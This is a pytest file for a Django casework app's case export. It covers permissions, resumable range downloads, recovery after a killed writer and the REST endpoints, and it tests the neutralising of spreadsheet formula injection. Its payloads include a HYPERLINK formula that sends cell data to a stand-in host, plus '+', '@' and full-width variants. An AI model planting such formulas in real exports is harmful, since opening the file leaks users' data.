"""The desk's list as a file: what its owner may see, whole after a kill, fetched in parts, no cell a formula."""

from __future__ import annotations

import csv
import io
import os
import signal
import time
from typing import Any
from uuid import UUID

import pytest
from django.db import connections
from django.test import Client
from openpyxl import load_workbook
from tests.nets.casework.conftest import District, settle
from tests.support.city import WUHOU, Person, open_bike_case

from furong.foundation.identity.errors import ActionRefused
from furong.kernel.clock import FrozenClock
from furong.nets.casework import api as casework
from furong.nets.casework.actions import export_cases
from furong.nets.casework.api import case_exports as api
from furong.nets.casework.contracts.case_exports import CaseExportSpec
from furong.nets.casework.domain.case_tables import HEADERS, csv_lines, rows_of_csv
from furong.nets.casework.errors.case_exports import CaseExportNotReady, CaseExportUnknown, CaseExportUnusable
from furong.nets.casework.models import Case

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open")'


@pytest.fixture
def district(own_database: None, clock: FrozenClock) -> District:
    """The district, in a database that other processes see."""
    return settle()


def ask(person: Person, **filters: Any) -> UUID:
    """Ask for an export and write it to its end."""
    export = api.ask_case_export(person.actor, CaseExportSpec(**filters))
    api.write_case_exports()
    return export


def fetch(person: Person, export: UUID, **headers: str) -> Any:
    path = f"/api/v1/cases/exports/{export}/file"
    return Client().get(path, headers={**person.bearer, **headers})


def content(answer: Any) -> bytes:
    return b"".join(answer.streaming_content)


def rows(person: Person, export: UUID) -> list[list[str]]:
    text = content(fetch(person, export)).decode()
    assert text.startswith("\ufeff")
    return list(rows_of_csv(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "cell",
    [FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1", "＠x", "\n=1", "  +1", "\u3000=1", "\u202e@x"],
    ids=[
        "equals",
        "plus",
        "minus",
        "at",
        "tab",
        "return",
        "space",
        "wide equals",
        "wide at",
        "line",
        "spaces",
        "wide space",
        "turned",
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_shown_as_text(cell: str) -> None:
    (row,) = csv.reader(io.StringIO(csv_lines([[cell]]), newline=""))
    assert row == [f"'{cell}"]


@pytest.mark.parametrize("cell", ["", "天府三街口", "5101712026112400001", "a=b", "0.5", "2026-11-24 08:40:00"])
def test_any_other_cell_stays_as_it_is(cell: str) -> None:
    (row,) = csv.reader(io.StringIO(csv_lines([[cell]]), newline=""))
    assert row == [cell]


def test_characters_that_excel_has_no_place_for_are_left_out() -> None:
    assert csv_lines([["a\x00b\x1fc\td\n", "\x01=1"]]) == '"abc\td\n",\'=1\r\n'


def test_the_list_is_exported_as_it_is_filtered(district: District) -> None:
    numbers = [open_bike_case(f"alarm-{place}") for place in range(3)]
    casework.dispatch_case(district.duty.actor, numbers[1])
    names, *found = rows(district.duty, ask(district.duty))
    assert names == list(HEADERS["zh"])
    assert [row[0] for row in found] == sorted(numbers)
    one = dict(zip(names, found[1], strict=True))
    assert (one["标题"], one["状态"], one["地点"]) == ("天府三街口共享单车淤积", "待处置", "天府三街口")
    assert (one["发生时间"], one["承办单位"].count("、")) == ("2026-11-24 08:40:00", 1)
    waiting = rows(district.duty, ask(district.duty, view="dispatch", language="en"))
    assert waiting[0] == list(HEADERS["en"])
    assert [row[0] for row in waiting[1:]] == [numbers[0], numbers[2]]
    assert rows(district.duty, ask(district.duty, text="zzzz")) == [list(HEADERS["zh"])]


def test_what_somebody_reported_is_no_formula_in_csv_and_in_excel(district: District) -> None:
    number = open_bike_case()
    Case.objects.filter(pk=number).update(title_zh=FORMULA, place_zh="@here")
    _, row = rows(district.duty, ask(district.duty))
    assert (row[1], row[7]) == (f"'{FORMULA}", "'@here")
    book = load_workbook(io.BytesIO(content(fetch(district.duty, ask(district.duty, format="xlsx")))))
    names, cells = book.worksheets[0].iter_rows()
    assert [cell.value for cell in names] == list(HEADERS["zh"])
    assert (cells[0].value, cells[1].value) == (number, f"'{FORMULA}")
    assert "f" not in {cell.data_type for cell in cells}


def test_an_export_holds_what_its_owner_may_see_and_is_theirs_alone(district: District) -> None:
    here, there = open_bike_case("here"), open_bike_case("there", area=WUHOU)
    export = ask(district.duty)
    assert [row[0] for row in rows(district.duty, export)[1:]] == [here]
    assert [row[0] for row in rows(district.leader, ask(district.leader))[1:]] == sorted([here, there])
    assert fetch(district.leader, export).status_code == 404
    with pytest.raises(CaseExportUnknown):
        api.get_case_export_for(district.leader.actor, export)
    with pytest.raises(ActionRefused):
        api.ask_case_export(district.operator_a.actor, CaseExportSpec())
    with pytest.raises(CaseExportUnusable):
        api.ask_case_export(district.duty.actor, CaseExportSpec(view="nothing"))


def test_a_download_that_broke_off_goes_on_where_it_stood(district: District) -> None:
    for place in range(20):
        open_bike_case(f"alarm-{place}")
    export = ask(district.duty)
    answer = fetch(district.duty, export)
    whole, tag = content(answer), answer.headers["ETag"]
    assert (answer.status_code, answer.headers["Accept-Ranges"]) == (200, "bytes")
    first = fetch(district.duty, export, Range="bytes=0-99")
    assert (first.status_code, first.headers["Content-Range"]) == (206, f"bytes 0-99/{len(whole)}")
    rest = fetch(district.duty, export, **{"Range": "bytes=100-", "If-Range": tag})
    assert content(first) + content(rest) == whole
    assert content(fetch(district.duty, export, Range="bytes=-7")) == whole[-7:]
    assert content(fetch(district.duty, export, Range="bytes=5-999999999")) == whole[5:]
    assert content(fetch(district.duty, export, **{"Range": "bytes=5-", "If-Range": '"another"'})) == whole
    for nothing in ("bytes=999999999-", "bytes=-0"):
        refused = fetch(district.duty, export, Range=nothing)
        assert (refused.status_code, refused.headers["Content-Range"]) == (416, f"bytes */{len(whole)}")
    for unknown in ("bytes=9-5", "lines=1-2", "bytes=-", "bytes=0-1,5-6"):
        assert content(fetch(district.duty, export, Range=unknown)) == whole


def test_a_writer_that_is_killed_is_followed_by_another(district: District, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export_cases, "_ROWS_A_PIECE", 4)
    numbers = [open_bike_case(f"alarm-{place}") for place in range(30)]
    export = api.ask_case_export(district.duty.actor, CaseExportSpec())
    connections.close_all()
    child = os.fork()
    if child == 0:
        while api.write_next_case_piece():
            # Quick at first, and then slower than any machine notices it.
            time.sleep(0.05 if api.get_case_export_for(district.duty.actor, export).rows < 12 else 60)
        os._exit(0)
    while api.get_case_export_for(district.duty.actor, export).rows < 12:
        time.sleep(0.005)
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
    before = api.get_case_export_for(district.duty.actor, export)
    assert (before.state, 12 <= before.rows < 30) == ("waiting", True)
    with pytest.raises(CaseExportNotReady):
        api.open_case_export_for(district.duty.actor, export)
    deadline = time.monotonic() + 120
    while api.get_case_export_for(district.duty.actor, export).state != "done":
        # The lock of the one that was killed is free once the database has noticed that it is gone.
        assert api.write_next_case_piece() or time.monotonic() < deadline
    assert [row[0] for row in rows(district.duty, export)[1:]] == sorted(numbers)


def test_over_rest_an_export_is_asked_for_looked_at_and_stopped(district: District) -> None:
    open_bike_case()
    client = Client(headers=district.duty.bearer)
    asked = client.post("/api/v1/cases/exports", {"view": "dispatch", "format": "xlsx"}, "application/json")
    assert (asked.status_code, asked.json()["state"], asked.json()["spec"]["view"]) == (202, "waiting", "dispatch")
    path = f"/api/v1/cases/exports/{asked.json()['id']}"
    assert client.get(f"{path}/file").json()["code"] == "casework.case_export_not_ready"
    assert client.delete(path).status_code == 204
    assert api.write_case_exports() == 0
    assert client.get("/api/v1/cases/exports").json()[0]["state"] == "cancelled"
    assert client.post("/api/v1/cases/exports", {"view": "none"}, "application/json").status_code == 422
